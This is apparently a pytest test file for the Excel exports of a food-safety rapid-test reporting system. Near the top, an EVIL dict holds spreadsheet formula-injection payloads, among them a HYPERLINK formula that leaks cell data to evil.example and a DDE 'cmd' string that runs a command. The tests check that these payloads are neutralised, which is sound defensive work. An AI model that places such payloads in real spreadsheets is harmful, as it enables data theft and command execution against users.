"""Excel: results export (formula-safe, typed, streamed), monthly workbook, import template."""

from __future__ import annotations

import dataclasses
import io
import os
import zipfile
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import pytest
import report_samples as S
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from report_tools import EN, ZH, require

from reports.data import ResultExportRow
from reports.excel.cells import FORMULA_TRIGGERS, safe_text
from reports.excel.template import TEMPLATE_HEADERS, import_template
from reports.excel.monthly_workbook import write_monthly
from reports.excel.results_export import export_headers, write_results

EVIL = {
    "site": '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")',
    "operator": "+86 138 0000 0000",
    "supplier": "-2+3+cmd|' /C calc'!A0",
    "food": "@SUM(A1:A9)",
    "origin": "\t=1+1",
    "correction_reason": "\r=1+1",
    "cutoff": "≥ 50",
}


def one_row(**changes) -> ResultExportRow:
    return dataclasses.replace(next(S.export_rows(1)), **changes)


def export(rows, text=ZH, **kwargs):
    buffer = io.BytesIO()
    count = write_results(rows, buffer, text, **kwargs)
    buffer.seek(0)
    return count, buffer


def column(name: str) -> int:
    from reports.excel.results_export import COLUMNS

    return [c[0] for c in COLUMNS].index(name)


def test_headers_sheets_and_notes():
    count, buffer = export(iter([one_row(), one_row()]))
    assert count == 2
    wb = load_workbook(buffer)
    assert wb.sheetnames == ["快检结果", "说明"]
    ws = wb["快检结果"]
    header = [c.value for c in ws[1]]
    assert header == export_headers(ZH)
    assert header[:4] == ["样品编号", "抽样时间", "抽样人", "被检场所"]
    for needed in ("检测项目代码", "检测依据", "检测原理", "试剂批号", "试剂厂家", "检测仪器", "检测点", "通道",
                   "判定值", "结论", "仪器结论", "不一致", "审核人员", "结果版本", "更正原因", "处置状态"):
        assert needed in header
    assert ws.max_row == 3
    notes = " ".join(str(c.value) for row in wb["说明"].iter_rows() for c in row if c.value is not None)
    assert "不是监督抽检数据" in notes and "筛查结果" in notes


def test_formula_injection_is_neutralised():
    _, buffer = export([one_row(**EVIL)])
    raw = zipfile.ZipFile(io.BytesIO(buffer.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw and b"<f " not in raw
    wb = load_workbook(buffer)
    row = [c for c in wb.active[2]]
    for field, original in EVIL.items():
        cell = row[column(field)]
        assert cell.data_type == "s", field
        if original.startswith(FORMULA_TRIGGERS):
            # XML readers normalise a carriage return to a line feed
            assert cell.value == "'" + original.replace("\r", "\n"), field
        else:
            assert cell.value == original, field


def test_numbers_stay_numbers_and_dates_are_dates():
    tested = datetime(2026, 11, 20, 9, 31, tzinfo=S.CST)
    _, buffer = export([one_row(quantity_kg=Decimal("40.50"), value=Decimal("12.4"), value_text=None,
                                tested_at=tested, version=2, disagrees=True)])
    ws = load_workbook(buffer).active
    row = ws[2]
    quantity = row[column("quantity_kg")]
    assert quantity.data_type == "n" and quantity.value == 40.5 and quantity.number_format == "#,##0.00"
    value = row[column("value")]
    assert value.data_type == "n" and value.value == pytest.approx(12.4)
    when = row[column("tested_at")]
    assert when.is_date and when.value == datetime(2026, 11, 20, 9, 31)
    assert when.number_format == "yyyy-mm-dd hh:mm"
    assert row[column("version")].value == 2
    assert row[column("disagrees")].value == "是"
    assert row[column("outcome")].value in ("阴性", "阳性", "可疑", "无效")


def test_qualitative_reading_is_text_not_zero():
    _, buffer = export([one_row(value=None, value_text="未检出")])
    row = load_workbook(buffer).active[2]
    assert row[column("value")].value is None
    assert row[column("value_text")].value == "未检出"


def test_english_headers():
    _, buffer = export([one_row()], text=EN)
    wb = load_workbook(buffer)
    assert wb.sheetnames == ["Rapid test results", "Notes"]
    assert [c.value for c in wb.active[1]][0] == "Sample code"


def test_export_to_a_path(tmp_path):
    target = tmp_path / "results.xlsx"
    assert write_results(S.export_rows(10), str(target), ZH, exported_at=datetime(2026, 12, 1, 9, 0, tzinfo=S.CST),
                         period="2026-11-01 ~ 2026-11-30") == 10
    wb = load_workbook(target, read_only=True)
    try:
        assert sum(1 for _ in wb["快检结果"].iter_rows()) == 11
    finally:
        wb.close()


@settings(database=None, max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_safe_text_property(text):
    safe = safe_text(text)
    assert not safe.startswith(FORMULA_TRIGGERS)
    body = safe[1:] if safe.startswith("'") and safe != text else safe
    assert set(body) <= set(text)


def _rss_bytes() -> int:
    with open("/proc/self/statm") as fh:
        return int(fh.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


def test_fifty_thousand_rows_stream_with_flat_memory(tmp_path):
    require(Path("/proc/self/statm").exists(), "needs /proc to measure memory")
    samples: dict[int, int] = {}

    def rows():
        for i, row in enumerate(S.export_rows(50_000), start=1):
            if i in (5_000, 50_000):
                samples[i] = _rss_bytes()
            yield dataclasses.replace(row, batch_code=f"CD{i:08d}")  # every code unique

    target = tmp_path / "big.xlsx"
    with open(target, "wb") as fh:
        assert write_results(rows(), fh, ZH) == 50_000
    growth = samples[50_000] - samples[5_000]
    # A materialised list of 50,000 rows alone would take far more than this.
    assert growth < 25 * 2**20, f"memory grew by {growth / 2**20:.1f} MB while streaming"
    assert target.stat().st_size > 1_000_000


# --------------------------------------------------------------------------- monthly workbook


def test_monthly_workbook_sheets_and_values():
    report = S.monthly_report()
    wb = load_workbook(io.BytesIO(write_monthly(report, ZH)))
    assert wb.sheetnames == ["总体情况", "分市场", "覆盖率", "分食品类别", "分检测项目", "分检测点", "阳性明细", "五色预警", "红黑榜",
                             "活动保障", "每日趋势"]
    overview = wb["总体情况"]
    values = {row[0]: row[1:] for row in overview.iter_rows(values_only=True) if row and row[0]}
    assert values["检测批次"][0] == report.current.batches
    assert values["检测批次"][1] == report.previous.batches
    assert values["阳性率"][0] == pytest.approx(float(report.current.positive_rate))
    by_site = list(wb["分市场"].iter_rows(values_only=True))
    assert by_site[0][0] == "市场"
    assert {r[0] for r in by_site[1:]} == {r.name for r in report.by_site}
    positives = list(wb["阳性明细"].iter_rows(values_only=True))
    assert len(positives) == len(report.positives) + 1
    assert isinstance(positives[1][0], datetime)


def test_monthly_workbook_empty_month():
    wb = load_workbook(io.BytesIO(write_monthly(S.empty_monthly_report(), EN)))
    values = {row[0]: row[1:] for row in wb["Overview"].iter_rows(values_only=True) if row and row[0]}
    assert values["Pass rate"][0] is None  # no rate rather than a division by zero
    assert values["Tests"][0] == 0


# --------------------------------------------------------------------------- import template


def test_import_template_headers_examples_and_instructions():
    wb = load_workbook(io.BytesIO(import_template(ZH)))
    assert wb.sheetnames == ["检测结果", "填写说明", "示例"]
    ws = wb["检测结果"]
    assert ws.max_row == 1  # nothing to import by mistake: the examples have their own sheet
    header = [c.value for c in ws[1]]
    assert header == ["检测点名称", "被检单位*", "档口编号", "样品编号", "样品名称*", "食品类别", "检测项目*", "检测值*",
                      "单位", "检测结论*", "检测人员*", "检测时间*", "试剂批号", "供货者", "产地", "进货数量(kg)", "备注"]
    assert tuple(header) == TEMPLATE_HEADERS
    assert [c.value for c in wb["示例"][1]] == header
    rows = list(wb["示例"].iter_rows(min_row=2, values_only=True))
    assert len(rows) >= 3
    by_food = {r[4]: r for r in rows}
    assert by_food["青菜"][6] == "有机磷和氨基甲酸酯类农药" and by_food["青菜"][7] == 12.4 and by_food["青菜"][9] == "阴性"
    assert by_food["猪肉"][6] == "克伦特罗" and by_food["猪肉"][9] == "阴性"
    assert by_food["鱿鱼"][6] == "甲醛" and by_food["鱿鱼"][7] == "未检出"
    assert isinstance(by_food["青菜"][11], datetime)
    validations = {str(v.sqref): v for v in ws.data_validations.dataValidation}
    assert '"阴性,阳性,可疑,无效"' in validations["J2:J2000"].formula1
    assert "蔬菜" in validations["F2:F2000"].formula1
    help_rows = list(wb["填写说明"].iter_rows(values_only=True))
    described = {r[0]: r for r in help_rows if r and r[0] in TEMPLATE_HEADERS}
    assert set(described) == set(TEMPLATE_HEADERS)
    assert described["样品编号"][1] == "否" and "未匹配" in described["样品编号"][2]
    assert described["检测时间*"][1] == "是" and "YYYY-MM-DD HH:MM" in described["检测时间*"][2]
    assert "未检出" in described["检测值*"][2]


def test_import_template_reads_back_in_read_only_mode():
    wb = load_workbook(io.BytesIO(import_template(EN)), read_only=True, data_only=True)
    try:
        first = next(wb.worksheets[0].iter_rows(values_only=True))
        assert first == TEMPLATE_HEADERS  # the file format does not change with the language
        assert wb.sheetnames[1] == "填写说明"
    finally:
        wb.close()
